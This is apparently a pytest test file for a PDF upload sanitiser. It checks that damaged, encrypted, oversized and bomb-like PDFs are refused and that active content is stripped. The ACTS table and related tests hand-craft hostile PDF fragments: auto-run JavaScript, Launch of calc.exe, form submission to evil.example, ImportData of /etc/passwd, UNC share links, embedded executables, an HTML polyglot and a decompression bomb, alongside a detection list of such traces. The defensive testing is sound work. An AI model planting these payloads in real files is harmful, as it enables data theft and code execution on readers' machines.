import base64
import io
import zlib

import pypdfium2
import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DictionaryObject,
    IndirectObject,
    NameObject,
    PdfObject,
    TextStringObject,
)

from guides.pdf import active_parts, upload
from guides.pdf.upload import PdfRefused, PdfUpload, pdf_rebuild
from tests.guides.pdf.test_layout import built

# Written by qpdf: the cross-reference table comes first, for page-by-page loading.
LINEARIZED = """
JVBERi0xLjMKJb/3ov4KMiAwIG9iago8PCAvTGluZWFyaXplZCAxIC9MIDEwNDYgL0ggWyA1MjkgMTE2IF0gL08gNSAvRSA4
MjEgL04gMSAvVCA4ODggPj4KZW5kb2JqCiAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAg
ICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAK
eHJlZgoyIDUKMDAwMDAwMDAxNSAwMDAwMCBuIAowMDAwMDAwNDgwIDAwMDAwIG4gCjAwMDAwMDA1MjkgMDAwMDAgbiAKMDAw
MDAwMDY0NSAwMDAwMCBuIAowMDAwMDAwNzUxIDAwMDAwIG4gCnRyYWlsZXIgPDwgL1Jvb3QgMyAwIFIgL1NpemUgNyAvUHJl
diA4ODAgICAgICAgICAgICAgICAgICAgL0lEIFs8ZTE5MzYyZjAyNWVkMDE3NzI4ZGE0NDkzNTFmZTU1MjQ+PGUxOTM2MmYw
MjVlZDAxNzcyOGRhNDQ5MzUxZmU1NTI0Pl0gPj4Kc3RhcnR4cmVmCjAKJSVFT0YKMyAwIG9iago8PCAvUGFnZXMgMSAwIFIg
L1R5cGUgL0NhdGFsb2cgPj4KZW5kb2JqCjQgMCBvYmoKPDwgL0ZpbHRlciAvRmxhdGVEZWNvZGUgL1MgMzYgL0xlbmd0aCAz
OSA+PgpzdHJlYW0KeJxjYGBgAiJBBhDYwIAAEDZQjoEFSZQJihkY3BjYJjAwAABFtQJcCmVuZHN0cmVhbQplbmRvYmoKNSAw
IG9iago8PCAvQ29udGVudHMgNiAwIFIgL01lZGlhQm94IFsgMCAwIDEwMCAxMDAgXSAvUGFyZW50IDEgMCBSIC9SZXNvdXJj
ZXMgPDwgPj4gL1R5cGUgL1BhZ2UgPj4KZW5kb2JqCjYgMCBvYmoKPDwgL0xlbmd0aCAwIC9GaWx0ZXIgL0ZsYXRlRGVjb2Rl
ID4+CnN0cmVhbQoKZW5kc3RyZWFtCmVuZG9iagoxIDAgb2JqCjw8IC9Db3VudCAxIC9LaWRzIFsgNSAwIFIgXSAvVHlwZSAv
UGFnZXMgPj4KZW5kb2JqCnhyZWYKMCAyCjAwMDAwMDAwMDAgNjU1MzUgZiAKMDAwMDAwMDgyMSAwMDAwMCBuIAp0cmFpbGVy
IDw8IC9TaXplIDIgL0lEIFs8ZTE5MzYyZjAyNWVkMDE3NzI4ZGE0NDkzNTFmZTU1MjQ+PGUxOTM2MmYwMjVlZDAxNzcyOGRh
NDQ5MzUxZmU1NTI0Pl0gPj4Kc3RhcnR4cmVmCjIxNgolJUVPRgo=
"""


def writer(pages: int = 1) -> PdfWriter:
    pdf = PdfWriter()
    for _ in range(pages):
        pdf.add_blank_page(100, 100)
    return pdf


def file_of(pdf: PdfWriter) -> io.BytesIO:
    file = io.BytesIO()
    pdf.write(file)
    return file


def rebuilt(content: bytes) -> PdfUpload:
    return pdf_rebuild(io.BytesIO(content), len(content))


def accept(content: bytes) -> None:
    """Asserts that the PDF is accepted and that a reader opens what it becomes."""
    with pypdfium2.PdfDocument(rebuilt(content).content) as opened:
        assert len(opened) == 1


def refusal(file: io.BytesIO) -> str:
    with pytest.raises(PdfRefused) as caught:
        pdf_rebuild(file, len(file.getvalue()))
    return str(caught.value)


def test_plain_pdf_is_accepted_and_rewound() -> None:
    file = file_of(writer())

    pdf_rebuild(file, len(file.getvalue()))

    assert file.tell() == 0


@pytest.mark.parametrize("content", [b"", b"GIF89a", b"PK\x03\x04", b"%PD"])
def test_other_file_types_are_refused(content: bytes) -> None:
    assert refusal(io.BytesIO(content)) == (
        "This isn't a PDF. Save your guide as a PDF and try again."
    )


@pytest.mark.parametrize("content", [b"%PDF-1.7\n", b"%PDF-1.7\ntrailer<</Root 1 0 R>>\n%%EOF"])
def test_a_damaged_pdf_is_refused(content: bytes) -> None:
    assert refusal(io.BytesIO(content)) == ("This PDF is damaged and can't be read. Save it again.")


def test_truncated_pdf_is_refused() -> None:
    content = file_of(writer()).getvalue()

    assert refusal(io.BytesIO(content[: len(content) // 2])) == (
        "This PDF is damaged and can't be read. Save it again."
    )


def test_password_protected_pdf_is_refused() -> None:
    pdf = writer()
    pdf.encrypt("secret", algorithm="AES-256")

    assert refusal(file_of(pdf)) == (
        "This PDF only opens with a password. Save it without protection."
    )


@pytest.mark.parametrize("algorithm", ["RC4-40", "RC4-128", "AES-128", "AES-256-R5", "AES-256"])
def test_pdf_encrypted_with_empty_password_is_accepted(algorithm: str) -> None:
    """Programs write these to forbid changing or printing."""
    pdf = writer()
    pdf.encrypt("", "owner", algorithm=algorithm)

    accept(file_of(pdf).getvalue())


def test_certificate_encryption_is_refused() -> None:
    pdf = writer()
    pdf.encrypt("", "owner", algorithm="RC4-128")
    content = file_of(pdf).getvalue().replace(b"/Standard", b"/PubSec  ")

    assert refusal(io.BytesIO(content)) == (
        "This PDF only opens with a password. Save it without protection."
    )


@pytest.mark.parametrize(
    "before", [b"\xef\xbb\xbf", b"HTTP/1.1 200 OK\r\n\r\n", b" " * 900 + b"\n"]
)
def test_bytes_before_the_header_are_accepted(before: bytes) -> None:
    accept(before + file_of(writer()).getvalue())


def test_bytes_after_the_end_are_accepted() -> None:
    accept(file_of(writer()).getvalue() + b"\0" * 3000)


def test_header_too_far_from_start_is_refused() -> None:
    content = b"x" * 1100 + file_of(writer()).getvalue()

    assert refusal(io.BytesIO(content)).startswith("This isn't a PDF.")


def test_linearized_pdf_is_accepted() -> None:
    accept(base64.b64decode(LINEARIZED))


def form(**values: PdfObject) -> PdfWriter:
    pdf = writer()
    fields = {NameObject("/Fields"): ArrayObject()}
    more = {NameObject(f"/{key}"): value for key, value in values.items()}
    pdf.root_object[NameObject("/AcroForm")] = DictionaryObject(fields | more)
    return pdf


def test_pdf_form_is_accepted() -> None:
    accept(file_of(form()).getvalue())


def test_xfa_form_is_refused() -> None:
    pdf = form(XFA=TextStringObject("<xdp/>"))
    pdf.root_object[NameObject("/NeedsRendering")] = BooleanObject(True)

    assert refusal(file_of(pdf)) == (
        "This PDF is a form that only Adobe Reader can show. Print it to a new PDF."
    )


def test_deep_nesting_is_refused() -> None:
    content = file_of(writer()).getvalue().replace(b"/Root", b"/Deep " + b"[" * 4000 + b" /Root")

    assert refusal(io.BytesIO(content)).startswith("This PDF is")


def test_a_pdf_without_pages_is_refused() -> None:
    assert refusal(file_of(writer(pages=0))) == "This PDF has no pages."


def test_pdf_with_too_many_pages_is_refused() -> None:
    assert refusal(file_of(writer(pages=81))) == (
        "This PDF has 81 pages. A guide may have up to 80."
    )


def test_too_large_file_is_refused_unread() -> None:
    with pytest.raises(PdfRefused, match="larger than 10 MB"):
        pdf_rebuild(io.BytesIO(), upload.LARGEST + 1)


def test_pdf_with_too_many_objects_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(active_parts, "MOST_OBJECTS", 3)

    assert refusal(file_of(writer(pages=5))) == (
        "This PDF is too complicated. Print it to a new PDF."
    )


# What PDFs can do besides showing pages

SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
SHARE = rb"(\\\\198.51.100.7\\share\\a.pdf)"
ACTS = {
    "script when opened": {"root": b"/OpenAction " + SCRIPT},
    "script by reference": {"root": b"/OpenAction 9 0 R", "more": SCRIPT},
    "script by an escaped name": {"root": b"/OpenAction <</S/Java#53cript/J#53(app.alert)>>"},
    "script of the document": {"root": b"/Names<</JavaScript<</Names[(a)" + SCRIPT + b"]>>>>"},
    "script when closed": {"root": b"/AA<</WC " + SCRIPT + b">>"},
    "script of a page": {"page": b"/AA<</O " + SCRIPT + b">>"},
    "program": {"link": b"/A<</S/Launch/F(calc.exe)>>"},
    "program by reference": {"link": b"/A 9 0 R", "more": b"<</S 10 0 R/F(calc.exe)>>"},
    "program after a link": {
        "link": b"/A<</S/URI/URI(https://example.org)/Next<</S/Launch/F(calc.exe)>>>>"
    },
    "program after others": {
        "link": b"/A<</S/URI/URI(https://example.org)/Next[<</S/GoTo/D 0>><</S/Launch/F(a)>>]>>"
    },
    "program of a bookmark": {
        "root": b"/Outlines<</First 9 0 R/Last 9 0 R/Count 1>>",
        "more": b"<</Title(Read me)/A<</S/Launch/F(calc.exe)>>>>",
    },
    "form that sends": {"link": b"/A<</S/SubmitForm/F(https://evil.example/)>>"},
    "form that reads a file": {"link": b"/A<</S/ImportData/F(/etc/passwd)>>"},
    "file elsewhere": {"link": b"/A<</S/GoToR/F" + SHARE + b"/D[0/Fit]>>"},
    "file inside": {"link": b"/A<</S/GoToE/T<</R/C/N(a)>>>>"},
    "address of a share": {"link": b"/A<</S/URI/URI(file://198.51.100.7/share)>>"},
    "address of a script": {"link": b"/A<</S/URI/URI(javascript:alert\\(1\\))>>"},
    "address when shown": {"link": b"/PA<</S/URI/URI(https://evil.example/)>>"},
    "attached file": {
        "root": b"/Names<</EmbeddedFiles<</Names[(a.exe)9 0 R]>>>>",
        "more": b"<</Type/Filespec/F(a.exe)/EF<</F 11 0 R>>>>",
    },
    "associated file": {"root": b"/AF[9 0 R]", "more": b"<</Type/Filespec/EF<</F 11 0 R>>>>"},
    "attachment on the page": {
        "page": b"/Annots[<</Subtype/FileAttachment/FS<</F(a)/EF<</F 11 0 R>>>>>>]"
    },
    "film": {"page": b"/Annots[<</Subtype/RichMedia/RichMediaContent<<>>>>]"},
    "sound": {"page": b"/Annots[<</Subtype/Screen/A<</S/Rendition/OP 0/JS(app)>>>>]"},
    "Adobe's forms": {"root": b"/AcroForm<</Fields[]/XFA(<xdp/>)>>"},
    "content of another file": {"page": b"/Resources<</XObject<</X 11 0 R>>>>"},
    "collection": {"root": b"/Collection<</View/H>>"},
}
STREAM = (
    b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/F"
    + SHARE
    + b"/Ref<</F"
    + SHARE
    + b">>/Length 2>>stream\nMZ\nendstream"
)
TRACES = (
    b"JavaScript", b"Java#53cript", b"app.alert", b"Launch", b"calc.exe", b"SubmitForm",
    b"ImportData", b"GoToR", b"GoToE", b"198.51.100.7", b"file:", b"javascript:", b"evil.example",
    b"EmbeddedFile", b"Filespec", b"/EF", b"/AF", b"/AA", b"FileAttachment", b"RichMedia",
    b"Rendition", b"XFA", b"OpenAction", b"Collection", b"/Ref",
)  # fmt: skip


def crafted(
    *, root: bytes = b"", page: bytes = b"", link: bytes = b"", more: bytes = b"null"
) -> bytes:
    """A PDF of one page with a link, written by hand. Objects 9 to 11 stand unused."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R" + root + b">>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]" + (page or b"/Annots[4 0 R]") + b">>",
        4: b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]" + link + b">>",
        9: more,
        10: b"/Launch",
        11: STREAM,
    }
    written, offsets = b"%PDF-1.7\n", {}
    for number, content in objects.items():
        offsets[number] = len(written)
        written += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%d 1\n%010d 00000 n \n" % each for each in offsets.items())
    start = len(written)
    return written + b"xref\n%strailer<</Root 1 0 R/Size 12>>\nstartxref\n%d\n%%%%EOF" % (
        table,
        start,
    )


@pytest.mark.parametrize("name", ACTS)
def test_whatever_acts_is_left_out(name: str) -> None:
    before = crafted(**ACTS[name])
    assert any(trace in before for trace in TRACES)

    upload = rebuilt(before)

    assert upload.left_out
    assert [trace for trace in TRACES if trace in upload.content] == []
    accept(upload.content)


@pytest.mark.parametrize(
    "link",
    [
        b"/A<</S/URI/URI(https://example.org/a)>>",
        b"/A<</S/URI/URI(mailto:pt@example.org)>>",
        b"/A<</S/GoTo/D[3 0 R/Fit]>>",
        b"/Dest[3 0 R/Fit]",
        b"/A<</S/Named/N/NextPage>>",
    ],
)
def test_links_stay(link: bytes) -> None:
    upload = rebuilt(crafted(link=link))

    assert not upload.left_out
    annotations = PdfReader(io.BytesIO(upload.content)).pages[0].annotations
    assert annotations is not None
    assert {"/A", "/Dest"} & {*annotations[0].get_object()}


def test_a_page_for_browsers_in_a_pdf_is_left_out() -> None:
    content = b"<!doctype html><script src=//evil.example></script>\n" + crafted()

    upload = rebuilt(content + b"<script>alert(1)</script>")

    assert upload.content.startswith(b"%PDF-1.7")
    assert b"script" not in upload.content


def test_bookmarks_and_structure_stay() -> None:
    """Screen readers read the structure."""
    content = built("mobility_first", "a4")

    before, after = (PdfReader(io.BytesIO(each)) for each in (content, rebuilt(content).content))

    assert [page.extract_text() for page in after.pages] == [p.extract_text() for p in before.pages]
    assert [str(each) for each in shape(after)] == [str(each) for each in shape(before)]
    for key in ("/Lang", "/MarkInfo"):
        assert after.root_object[key] == before.root_object[key]
    assert len(after.outline) == len(before.outline) > 3


def shape(reader: PdfReader) -> list[object]:
    """Types of the structure's elements, in order of reading."""
    found: list[object] = []
    pending: list[object] = [reader.root_object["/StructTreeRoot"]]
    while pending:
        element = pending.pop()
        element = element.get_object() if isinstance(element, IndirectObject) else element
        if isinstance(element, ArrayObject):
            pending.extend(reversed(element))
        elif isinstance(element, DictionaryObject):
            found.append((element.get("/S"), element.get("/Alt")))
            pending.append(element.get("/K"))
    return found


def test_content_that_unpacks_to_too_much_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(active_parts, "MOST_BYTES", 1_000_000)
    packed = zlib.compress(b" " * 1_100_000)
    page = b"/Contents 9 0 R"
    stream = b"<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed)

    assert refusal(io.BytesIO(crafted(page=page, more=stream))).startswith("This PDF is too compl")


def test_a_bomb_is_refused() -> None:
    """Ten kilobytes that unpack to ten gigabytes."""
    packed = zlib.compress(zlib.compress(b"\0" * 100_000_000, 9), 9)
    stream = b"<</Filter[/Fl/FlateDecode]/Length %d>>stream\n%s\nendstream" % (len(packed), packed)

    assert refusal(io.BytesIO(crafted(page=b"/Contents 9 0 R", more=stream))).startswith("This PDF")


def test_a_picture_larger_than_memory_is_refused() -> None:
    picture = b"<</Subtype/Image/Width 99999/Height 99999/Filter/DCTDecode/Length 1>>stream\n\xff\nendstream"
    page = b"/Resources<</XObject<</X 9 0 R>>>>"

    assert refusal(io.BytesIO(crafted(page=page, more=picture))).startswith("This PDF is too compl")
